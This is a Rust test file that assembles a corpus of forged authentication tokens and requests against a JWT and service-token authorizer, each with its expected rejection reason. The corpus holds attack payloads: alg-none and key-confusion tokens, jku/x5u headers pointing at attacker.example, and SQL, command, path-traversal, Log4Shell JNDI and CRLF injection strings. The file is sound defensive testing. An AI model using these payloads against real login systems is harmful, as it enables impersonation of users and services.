//! What somebody would try in order to pass for somebody else: each event, and the reason for which it is refused.

use aws_lc_rs::encoding::AsDer as _;
use aws_lc_rs::rsa::KeyPair as RsaKeyPair;
use aws_lc_rs::signature::KeyPair as _;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};
use smac_local::deployment::{EMAIL, Pool, SERVICE, SERVICE_TOKEN};
use smac_local::keys::Key;
use smac_local::token::{Token, Use, now, sign_raw};

use crate::support::{ARN, bearer, pair, request};

/// An attempt.
pub(crate) struct Attack {
    pub(crate) name: String,
    pub(crate) event: Value,
    pub(crate) reason: &'static str,
}

fn attack(name: impl Into<String>, event: Value, reason: &'static str) -> Attack {
    Attack { name: name.into(), event, reason }
}

fn with_token(name: impl Into<String>, token: &str, reason: &'static str) -> Attack {
    attack(name, bearer(token), reason)
}

/// All of them; the development deployment refuses each.
pub(crate) fn corpus() -> Vec<Attack> {
    let parts = [algorithms(), headers(), structure(), claims(), other_pools(), pairs(), places()];
    parts.into_iter().flatten().collect()
}

fn segments(token: &str) -> [&str; 3] {
    token.split('.').collect::<Vec<_>>().try_into().unwrap()
}

/// The header and the claims of a token, unsigned.
fn message(token: &Token) -> String {
    token.sign().rsplit_once('.').unwrap().0.to_owned()
}

fn algorithms() -> Vec<Attack> {
    let id = Token::id;
    let mut attacks = Vec::new();
    // RFC 8725, section 2.1: no signature at all, in whatever spelling.
    for alg in ["none", "None", "NONE", "nOnE", "", "none ", "\u{6e}one\u{0}", "null"] {
        let token = id().header("alg", alg);
        let [_, _, signature] = segments(&token.sign()).map(str::to_owned);
        for signature in ["", "AA", signature.as_str()] {
            let token = format!("{}.{signature}", message(&token));
            attacks.push(with_token(format!("alg {alg:?}"), &token, "algorithm_not_allowed"));
        }
    }
    for alg in [json!(null), json!(256), json!(true), json!(["RS256"]), json!({ "RS256": 1 })] {
        let name = format!("alg {alg}");
        attacks.push(with_token(name, &id().header("alg", alg).sign(), "algorithm_not_allowed"));
    }
    for alg in ["rs256", "Rs256", "RS256 ", " RS256", "RS-256", "RS256\u{0}", "RSA256", "SHA256withRSA"] {
        attacks.push(with_token(format!("alg {alg:?}"), &id().header("alg", alg).sign(), "algorithm_not_allowed"));
    }
    // The public key as the secret of a MAC, in every form in which a library may hold it.
    let key = RsaKeyPair::from_der(Key::Primary.der()).unwrap();
    let pkcs1 = key.public_key().as_ref().to_vec();
    let spki: Vec<u8> = key.public_key().as_der().unwrap().as_ref().to_vec();
    let jwk = Key::Primary.jwk();
    let pem = |label: &str, der: &[u8], is_wrapped: bool| {
        let text = STANDARD.encode(der);
        let lines: Vec<&str> = if is_wrapped {
            text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect()
        } else {
            vec![&text]
        };
        format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n")).into_bytes()
    };
    let mut without_end = pem("PUBLIC KEY", &spki, true);
    without_end.pop();
    let secrets: Vec<(&str, Vec<u8>)> = vec![
        ("PEM", pem("PUBLIC KEY", &spki, true)),
        ("PEM without its last line end", without_end),
        ("PEM in one line", pem("PUBLIC KEY", &spki, false)),
        ("PKCS #1 PEM", pem("RSA PUBLIC KEY", &pkcs1, true)),
        ("DER", spki),
        ("PKCS #1 DER", pkcs1),
        ("JWK", jwk.to_string().into_bytes()),
        ("key set", Key::Primary.key_set().to_string().into_bytes()),
        ("modulus", URL_SAFE_NO_PAD.decode(jwk["n"].as_str().unwrap()).unwrap()),
        ("modulus as text", jwk["n"].as_str().unwrap().as_bytes().to_vec()),
        ("kid", Key::Primary.kid().as_bytes().to_vec()),
        ("nothing", Vec::new()),
    ];
    for (form, secret) in &secrets {
        for (alg, algorithm) in [("HS256", Algorithm::HS256), ("HS384", Algorithm::HS384), ("HS512", Algorithm::HS512)]
        {
            for (named, reason) in [(alg, "algorithm_not_allowed"), ("RS256", "signature_invalid")] {
                let message = message(&id().header("alg", named));
                let key = EncodingKey::from_secret(secret);
                let mac = jsonwebtoken::crypto::sign(message.as_bytes(), &key, algorithm).unwrap();
                let name = format!("{alg} with the {form}, named {named}");
                attacks.push(with_token(name, &format!("{message}.{mac}"), reason));
            }
        }
    }
    // The pool's own key, with another algorithm than the one that it is for.
    for algorithm in [Algorithm::RS384, Algorithm::RS512, Algorithm::PS256, Algorithm::PS384, Algorithm::PS512] {
        let alg = format!("{algorithm:?}");
        for (named, reason) in [(alg.as_str(), "algorithm_not_allowed"), ("RS256", "signature_invalid")] {
            let message = message(&id().header("alg", named));
            let key = Key::Primary.encoding_key();
            let signature = jsonwebtoken::crypto::sign(message.as_bytes(), &key, algorithm).unwrap();
            attacks.push(with_token(format!("{alg} named {named}"), &format!("{message}.{signature}"), reason));
        }
    }
    let curve = EncodingKey::from_ec_der(&rcgen::KeyPair::generate().unwrap().serialize_der());
    for (named, reason) in [("ES256", "algorithm_not_allowed"), ("RS256", "signature_invalid")] {
        let message = message(&id().header("alg", named));
        let signature = jsonwebtoken::crypto::sign(message.as_bytes(), &curve, Algorithm::ES256).unwrap();
        attacks.push(with_token(format!("ES256 named {named}"), &format!("{message}.{signature}"), reason));
    }
    for alg in ["ES384", "ES512", "ES256K", "EdDSA", "RSA-OAEP", "dir", "A128KW"] {
        attacks.push(with_token(format!("alg {alg}"), &id().header("alg", alg).sign(), "algorithm_not_allowed"));
    }
    // Signatures that some arithmetic takes for anybody's.
    let message = message(&id());
    for (name, bytes) in [
        ("no", Vec::new()),
        ("a zero", vec![0; 256]),
        ("a one", [vec![0; 255], vec![1]].concat()),
        ("a huge", vec![0xff; 256]),
        ("a short", vec![1; 255]),
        ("a long", vec![1; 257]),
        ("a very long", vec![1; 4096]),
        ("the modulus as", URL_SAFE_NO_PAD.decode(jwk["n"].as_str().unwrap()).unwrap()),
    ] {
        let token = format!("{message}.{}", URL_SAFE_NO_PAD.encode(bytes));
        attacks.push(with_token(format!("{name} signature"), &token, "signature_invalid"));
    }
    attacks
}

/// Headers that would have us take another key, or another meaning.
fn headers() -> Vec<Attack> {
    let forged = || Token::id().forged();
    let named = || forged().header("kid", Key::Forger.kid());
    let certificate = STANDARD.encode(b"not much of a certificate");
    let mut attacks = Vec::new();
    for (header, value) in [
        ("jwk", Key::Forger.jwk()),
        ("jwk", json!({ "kty": "oct", "k": "AA" })),
        ("jku", json!("https://attacker.example/jwks.json")),
        ("jku", json!("http://127.0.0.1:1/jwks.json")),
        ("x5u", json!("https://attacker.example/certificate.pem")),
        ("x5c", json!([certificate])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("iss", json!("https://attacker.example")),
        ("typ", json!("none")),
        ("cty", json!("JWT")),
        ("zip", json!("DEF")),
        ("b64", json!(false)),
        ("enc", json!("A256GCM")),
    ] {
        let name = format!("header {header}");
        attacks.push(with_token(&name, &forged().header(header, value.clone()).sign(), "signature_invalid"));
        attacks.push(with_token(&name, &named().header(header, value).sign(), "key_unknown"));
    }
    for crit in [json!([]), json!(["exp"]), json!(["b64"]), json!("b64"), json!(null), json!(7)] {
        // `null` would take the header away, so it is written by hand.
        let header = json!({ "alg": "RS256", "kid": Key::Primary.kid(), "crit": crit, "b64": false });
        let token = sign_raw(Key::Primary, header.to_string().as_bytes(), b"{}");
        attacks.push(with_token(format!("crit {crit}"), &token, "token_malformed"));
    }
    for kid in [
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "' OR '1'='1",
        "x' UNION SELECT 'key';--",
        "| id",
        "${jndi:ldap://attacker.example/a}",
        "https://attacker.example/key",
        "\u{0}",
        "\u{202e}",
        "*",
        " ",
        "p1/DevPrimaryKey+0000000000000000000000000001",
        "P1/DEVPRIMARYKEY+0000000000000000000000000001=",
        "p1/DevPrimaryKey 0000000000000000000000000001=",
        "p1%2FDevPrimaryKey%2B0000000000000000000000000001%3D",
    ] {
        attacks.push(with_token(format!("kid {kid:?}"), &Token::id().header("kid", kid).sign(), "key_unknown"));
    }
    attacks.push(with_token("a long kid", &Token::id().header("kid", "k".repeat(100_000)).sign(), "key_unknown"));
    for kid in [json!(7), json!([Key::Primary.kid()]), json!({}), json!(true), json!("")] {
        attacks.push(with_token(format!("kid {kid}"), &Token::id().header("kid", kid).sign(), "token_malformed"));
    }
    for header in [
        format!(r#"{{"alg":"none","alg":"RS256","kid":"{}"}}"#, Key::Primary.kid()),
        format!(r#"{{"alg":"RS256","kid":"x","kid":"{}"}}"#, Key::Primary.kid()),
        format!(r#"{{"alg":"RS256","\u0061lg":"none","kid":"{}"}}"#, Key::Primary.kid()),
        format!(r#"[{{"alg":"RS256","kid":"{}"}}]"#, Key::Primary.kid()),
        format!(r#"{{"alg":"RS256","kid":"{}"}} "{{}}""#, Key::Primary.kid()),
        format!("\u{feff}{{\"alg\":\"RS256\",\"kid\":\"{}\"}}", Key::Primary.kid()),
    ] {
        let claims = message(&Token::id());
        let claims = URL_SAFE_NO_PAD.decode(claims.split_once('.').unwrap().1).unwrap();
        let token = sign_raw(Key::Primary, header.as_bytes(), &claims);
        attacks.push(with_token(format!("header {header}"), &token, "token_malformed"));
    }
    attacks
}

fn structure() -> Vec<Attack> {
    let good = Token::id().sign();
    let [header, claims, signature] = segments(&good);
    let flattened = json!({ "payload": claims, "protected": header, "signature": signature }).to_string();
    let general =
        json!({ "payload": claims, "signatures": [{ "protected": header, "signature": signature }] }).to_string();
    let mut attacks = vec![
        with_token("JSON, flattened", &flattened, "credentials_ambiguous"),
        with_token("JSON, general", &general, "credentials_ambiguous"),
    ];
    let is_last_bit_spare = |segment: &str| !segment.len().is_multiple_of(4);
    assert!(is_last_bit_spare(signature));
    for (name, token) in [
        ("a JWE", format!("{header}.{claims}.{signature}.{claims}.{signature}")),
        ("detached claims", format!("{header}..{signature}")),
        ("two tokens", format!("{good}.{good}")),
        ("padding", format!("{good}==")),
        ("padding within", format!("{header}=.{claims}.{signature}")),
        ("standard base64", format!("{header}.{claims}.{}+/", &signature[..signature.len() - 2])),
        ("percent-encoding", good.replace('.', "%2E")),
        ("a zero byte", format!("{good}\u{0}")),
        ("a zero byte within", format!("{header}.{claims}\u{0}.{signature}")),
        ("another dot", good.replace('.', "\u{ff0e}")),
        ("other letters", good.replace('e', "\u{435}")),
        ("quotes", format!("\"{good}\"")),
        ("a leading dot", format!(".{good}")),
        ("dots alone", "..".to_owned()),
        ("many dots", ".".repeat(10_000)),
        ("no claims", format!("{header}.{}.{signature}", URL_SAFE_NO_PAD.encode(""))),
        ("claims that are a list", sign_raw(Key::Primary, header_json().as_bytes(), b"[]")),
        ("claims that are a text", sign_raw(Key::Primary, header_json().as_bytes(), b"\"x\"")),
        ("claims that are no JSON", sign_raw(Key::Primary, header_json().as_bytes(), b"{")),
        ("claims with a tail", sign_raw(Key::Primary, header_json().as_bytes(), b"{}x")),
        ("claims that are no UTF-8", sign_raw(Key::Primary, header_json().as_bytes(), b"{\"iss\":\"\xff\"}")),
        ("claims with a comment", sign_raw(Key::Primary, header_json().as_bytes(), b"{}//")),
    ] {
        attacks.push(with_token(name, &token, "token_malformed"));
    }
    for (name, value) in [
        ("another scheme", format!("Basic {good}")),
        ("no scheme", good.clone()),
        ("a scheme without a token", "Bearer".to_owned()),
        ("another blank", format!("Bearer\u{a0}{good}")),
        ("a line end", format!("Bearer {header}.\r\n {claims}.{signature}")),
        ("two schemes", format!("Bearer Bearer {good}")),
        ("a scheme in quotes", format!("\"Bearer\" {good}")),
    ] {
        attacks.push(attack(name, request(&json!({ "Authorization": value })), "token_malformed"));
    }
    attacks
}

fn header_json() -> String {
    format!(r#"{{"alg":"RS256","kid":"{}"}}"#, Key::Primary.kid())
}

/// Claims as no pool writes them; signed by the pool, as if somebody had found a way to have that done.
fn claims() -> Vec<Attack> {
    let id = Token::id;
    let issuer = Pool::Primary.issuer();
    let mut attacks = Vec::new();
    for iss in [
        json!(null),
        json!([issuer]),
        json!({ "iss": issuer }),
        json!(format!("{issuer}/")),
        json!(format!(" {issuer}")),
        json!(issuer.to_uppercase()),
        json!(issuer.replace("https", "http")),
        json!(issuer.replace("https://", "https://user@")),
        json!(issuer.replace(".amazonaws.com", ".amazonaws.com.attacker.example")),
        json!(format!("https://attacker.example/?{issuer}")),
        json!(format!("{issuer}#")),
        json!(format!("{issuer}/../eu-west-1_Other")),
        json!(format!("{issuer}\u{0}")),
        json!("eu-west-1_DevPrimary"),
        json!(""),
    ] {
        attacks.push(with_token(format!("iss {iss}"), &id().claim("iss", iss).sign(), "issuer_unknown"));
    }
    for (claim, value, reason) in [
        ("exp", json!(now() - 1), "token_expired"),
        ("exp", json!(-1), "token_malformed"),
        ("exp", json!(1e300), "token_malformed"),
        ("exp", json!("9999999999"), "token_malformed"),
        ("exp", json!(true), "token_malformed"),
        ("exp", json!([now() + 60]), "token_malformed"),
        ("exp", json!(null), "token_malformed"),
        ("nbf", json!(now() + 60), "token_not_yet_valid"),
        ("nbf", json!(u64::MAX), "token_not_yet_valid"),
        ("nbf", json!(-1), "token_malformed"),
        ("iat", json!(now() + 3600), "token_not_yet_valid"),
        ("iat", json!("now"), "token_malformed"),
        ("token_use", json!("ID"), "token_use_not_allowed"),
        ("token_use", json!("id "), "token_use_not_allowed"),
        ("token_use", json!(["id"]), "token_use_not_allowed"),
        ("token_use", json!("refresh"), "token_use_not_allowed"),
        ("token_use", json!("access"), "client_not_allowed"),
        ("aud", json!([Pool::Primary.client()]), "client_not_allowed"),
        ("aud", json!(format!("{} ", Pool::Primary.client())), "client_not_allowed"),
        ("aud", json!(Pool::Primary.client().to_uppercase()), "client_not_allowed"),
        ("aud", json!("*"), "client_not_allowed"),
        ("aud", json!(""), "client_not_allowed"),
        ("email", json!(""), "user_id_missing"),
        ("email", json!([EMAIL]), "user_id_missing"),
        ("email", json!({ "email": EMAIL }), "user_id_missing"),
        ("email", json!(7), "user_id_missing"),
        ("email", json!(format!("{EMAIL}\r\nX-User: admin")), "user_id_invalid"),
        ("email", json!(format!("{EMAIL}\u{0}")), "user_id_invalid"),
        ("email", json!(format!("{EMAIL}\u{85}")), "user_id_invalid"),
        ("email", json!("x".repeat(513)), "user_id_invalid"),
        ("email_verified", json!(false), "email_not_verified"),
        ("email_verified", json!("TRUE"), "email_not_verified"),
        ("email_verified", json!(1), "email_not_verified"),
        ("email_verified", json!(null), "email_not_verified"),
        ("email_verified", json!([true]), "email_not_verified"),
    ] {
        let name = format!("{claim} {value:.40}");
        attacks.push(with_token(name, &id().claim(claim, value).sign(), reason));
    }
    let client = Pool::Primary.client();
    let with = |more: &str| {
        let exp = now() + 60;
        format!(r#"{{"iss":"{issuer}","aud":"{client}","token_use":"id","exp":{exp}{more}}}"#)
    };
    for (name, more) in [
        ("a claim twice", r#","email":"a@b.c","email":"jane@example.com""#),
        ("a claim in two spellings", r#","email":"a@b.c","\u0065mail":"jane@example.com""#),
        ("an issuer twice", r#","email":"a@b.c","iss":"x""#),
        ("a number that is none", r#","email":"a@b.c","nbf":+0"#),
        ("a number with an exponent", r#","email":"a@b.c","nbf":0e0"#),
        ("a minus zero", r#","email":"a@b.c","nbf":-0"#),
        ("more than 64 bits", r#","email":"a@b.c","iat":18446744073709551616"#),
        ("half a pair", r#","email":"a@b.c","\ud800":1"#),
    ] {
        let token = sign_raw(Key::Primary, header_json().as_bytes(), with(more).as_bytes());
        attacks.push(with_token(name, &token, "token_malformed"));
    }
    let half = sign_raw(Key::Primary, header_json().as_bytes(), with(r#","email":"\ud800""#).as_bytes());
    attacks.push(with_token("half a pair in a claim", &half, "user_id_missing"));
    for (open, close) in [("[", "]"), (r#"{"a":"#, "}")] {
        let deep = format!(r#","deep":{}1{}"#, open.repeat(50_000), close.repeat(50_000));
        let token = sign_raw(Key::Forger, header_json().as_bytes(), with(&deep).as_bytes());
        attacks.push(with_token(format!("deep {open}"), &token, "signature_invalid"));
    }
    attacks
}

/// One pool's tokens where another's are asked for.
fn other_pools() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (pool, other) in [(Pool::Primary, Pool::Secondary), (Pool::Secondary, Pool::Primary)] {
        let token = || Token::of(pool, Use::Id);
        for (name, token, reason) in [
            ("the other's client", token().claim("aud", other.client()), "client_not_allowed"),
            ("the other's key", token().signed_by(other.key()), "signature_invalid"),
            (
                "the other's key under its name",
                token().signed_by(other.key()).header("kid", other.key().kid()),
                "key_unknown",
            ),
            ("the other's issuer", token().claim("iss", other.issuer()), "key_unknown"),
            (
                "the other's issuer and key id",
                token().claim("iss", other.issuer()).header("kid", other.key().kid()),
                "signature_invalid",
            ),
            (
                "the other's issuer, key and key id",
                token().claim("iss", other.issuer()).header("kid", other.key().kid()).signed_by(other.key()),
                "client_not_allowed",
            ),
            (
                "an access token as an ID token",
                Token::of(pool, Use::Access).claim("token_use", "id"),
                "client_not_allowed",
            ),
            ("an ID token as an access token", token().claim("token_use", "access"), "client_not_allowed"),
        ] {
            attacks.push(with_token(format!("{} {name}", pool.name()), &token.sign(), reason));
        }
    }
    attacks
}

fn pairs() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for id in [
        "../admin",
        "a b",
        "a\u{0}",
        "a%2e",
        "a:b",
        "a*",
        "a?",
        "a\\b",
        "a\r\nX: y",
        "\u{ff0f}a",
        "é",
        "a,b",
        &"a".repeat(129),
        "arn:aws:secretsmanager:eu-west-1:123456789012:secret:smac/dev/billing-service",
    ] {
        let reason = if id == "../admin" { "service_unknown" } else { "service_id_invalid" };
        attacks.push(attack(format!("id {id:.40?}"), pair(id, SERVICE_TOKEN), reason));
    }
    for id in ["billing", "Billing-Service", "billing-service/", "/billing-service", "..", ".", "admin"] {
        attacks.push(attack(format!("id {id:?}"), pair(id, SERVICE_TOKEN), "service_unknown"));
    }
    for token in [
        "x",
        " ",
        "\u{0}",
        &SERVICE_TOKEN[1..],
        &SERVICE_TOKEN[..SERVICE_TOKEN.len() - 1],
        &format!("{SERVICE_TOKEN} "),
        &format!(" {SERVICE_TOKEN}"),
        &format!("{SERVICE_TOKEN}\u{0}"),
        &format!("{SERVICE_TOKEN},{SERVICE_TOKEN}"),
        &SERVICE_TOKEN.to_uppercase(),
        &STANDARD.encode(SERVICE_TOKEN),
        &format!("Bearer {SERVICE_TOKEN}"),
        "null",
        "undefined",
        "*",
        &"x".repeat(100_000),
    ] {
        attacks.push(attack(format!("token {token:.40?}"), pair(SERVICE, token), "service_token_mismatch"));
    }
    // A wrong pair is never tried as a JWT, and half a pair is none.
    let good = format!("Bearer {}", Token::id().sign());
    let both = json!({ "Authorization": good, "SMAC-Principal": SERVICE, "SMAC-Token": "x" });
    attacks.push(attack("a wrong pair and a good JWT", request(&both), "service_token_mismatch"));
    for half in [
        json!({ "SMAC-Principal": SERVICE }),
        json!({ "SMAC-Token": SERVICE_TOKEN }),
        json!({ "SMAC-Principal": SERVICE, "SMAC-Token": "" }),
        json!({ "SMAC-Principal": "", "SMAC-Token": SERVICE_TOKEN }),
        json!({ "SMAC_Principal": SERVICE, "SMAC_Token": SERVICE_TOKEN }),
        json!({ "SMAC-Principal ": SERVICE, "SMAC-Token ": SERVICE_TOKEN }),
    ] {
        attacks.push(attack("half a pair", request(&half), "credentials_missing"));
    }
    attacks
}

/// Two credentials where one belongs, and answers that would be cached under somebody else's key.
fn places() -> Vec<Attack> {
    let good = Token::id().sign();
    let other = Token::id().claim("jti", "other").sign();
    let header = |token: &str| format!("Bearer {token}");
    let mut attacks = Vec::new();
    for (name, headers, many) in [
        ("two spellings", json!({ "Authorization": header(&good), "authorization": header(&other) }), json!({})),
        ("two maps", json!({ "Authorization": header(&good) }), json!({ "Authorization": [header(&other)] })),
        ("two values", json!({}), json!({ "Authorization": [header(&good), header(&other)] })),
        ("good and bad", json!({}), json!({ "Authorization": [header(&good), "Basic x"] })),
        ("joined", json!({ "Authorization": format!("{}, {}", header(&good), header(&other)) }), json!({})),
        ("joined with itself", json!({ "Authorization": format!("{0},{0}", header(&good)) }), json!({})),
        ("two ids", json!({ "SMAC-Token": SERVICE_TOKEN }), json!({ "SMAC-Principal": [SERVICE, "admin"] })),
        ("two service tokens", json!({ "SMAC-Principal": SERVICE }), json!({ "SMAC-Token": [SERVICE_TOKEN, "x"] })),
    ] {
        let mut event = request(&headers);
        event["multiValueHeaders"] = many;
        attacks.push(attack(name, event, "credentials_ambiguous"));
    }
    let mut event = bearer(&good);
    event["queryStringParameters"] = json!({ "token": other });
    attacks.push(attack("another token in the query", event, "credentials_ambiguous"));
    let http = |version: &str, arn: &str, source: Value, headers: Value| json!({ "version": version, "type": "REQUEST", arn: ARN, "identitySource": source, "headers": headers });
    let victim = header(&other);
    for (name, event) in [
        (
            "HTTP 2.0, a victim's key",
            http("2.0", "routeArn", json!([victim]), json!({ "authorization": header(&good) })),
        ),
        (
            "HTTP 2.0, a prefix of the own",
            http("2.0", "routeArn", json!([&header(&good)[..40]]), json!({ "authorization": header(&good) })),
        ),
        (
            "HTTP 2.0, the id alone",
            http(
                "2.0",
                "routeArn",
                json!([SERVICE]),
                json!({ "smac-principal": SERVICE, "smac-token": SERVICE_TOKEN }),
            ),
        ),
        (
            "HTTP 1.0, a victim's key",
            http("1.0", "methodArn", json!(victim), json!({ "Authorization": header(&good) })),
        ),
        (
            "HTTP 1.0, a pair under a JWT's key",
            http(
                "1.0",
                "methodArn",
                json!(victim),
                json!({ "SMAC-Principal": SERVICE, "SMAC-Token": SERVICE_TOKEN, "Authorization": victim }),
            ),
        ),
    ] {
        attacks.push(attack(name, event, "cache_key_mismatch"));
    }
    attacks
}
